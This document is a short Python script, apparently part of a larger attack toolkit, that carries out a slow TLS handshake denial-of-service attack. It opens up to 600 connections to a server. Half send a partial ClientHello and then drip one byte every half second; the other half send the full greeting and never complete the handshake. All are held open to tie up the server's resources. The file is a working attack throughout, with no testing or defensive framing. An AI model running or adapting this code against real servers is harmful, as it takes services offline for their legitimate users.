"""TLS handshakes that never end: the first bytes of a ClientHello, and then one byte now and then."""
import ssl
import time

from attack_program import program


def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    side = context.wrap_bio(incoming, outgoing)
    try:
        side.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def run(attack):
    hello, held = client_hello(), []
    while len(held) < attack.options.connections and attack.more():
        connection = attack.connect(begin=False)
        # Half stop in the middle of the greeting; half greet and never answer the server's.
        connection.send(hello[:40] if len(held) % 2 else hello)
        held.append(connection)
    at = 40
    while attack.more() and any(c.open for c in held):
        for i, connection in enumerate(held):
            if i % 2 and at < len(hello) - 1:
                connection.send(hello[at:at + 1])
            connection.receive()
        at += 1
        time.sleep(0.5)
    attack.hold(held)


if __name__ == "__main__":
    program(__doc__, run, count=0, connections=600, megabytes=4)
